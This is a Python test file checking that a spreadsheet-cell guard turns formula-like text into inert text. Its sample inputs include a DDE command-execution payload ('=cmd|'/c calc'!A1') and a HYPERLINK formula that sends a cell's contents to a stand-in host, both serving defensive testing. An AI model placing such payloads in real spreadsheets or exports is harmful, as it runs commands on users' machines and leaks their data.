"""What becomes of foreign text in a cell of a spreadsheet."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lmo_tui.domain.spreadsheets import guarded

FORMULAS = (
    *("=1+1", "+SUM(A1)", "-2+3", "@cmd", "\t=1", "\r=1", "\n=1", " =1", "\ufeff=1", "-A1", "+44 20 7946", "%0a=1"),
    *("=HYPERLINK('http://e?x='&A1)", "=cmd|'/c calc'!A1", "＝1+1", "|calc", "\u00a0@SUM(1)"),  # noqa: RUF001 - meant
)
PLAIN = ("Acme", "-5", "+3", "3.14", "-0.25", "a=b", "O'Brien", "2026-01-01", "", "x@y.com", "L-00042", "日本電気")


@pytest.mark.parametrize("text", FORMULAS)
def test_what_would_run_is_text(text: str) -> None:
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize("text", PLAIN)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert guarded(text) == text


@given(st.text(alphabet=st.sampled_from("=+-@|%\t\r\n＝－ \u00a0\ufeffA1.5'")))  # noqa: RUF001 - meant
def test_no_text_begins_a_formula_and_none_is_lost(text: str) -> None:
    cell = guarded(text)
    assert cell in {text, f"'{text}"}
    first = cell.lstrip(" \u00a0\ufeff")[:1]
    if first and first in "=+-@|%\t\r\n＝－":  # noqa: RUF001 - meant
        float(cell)  # Only a number may begin so.
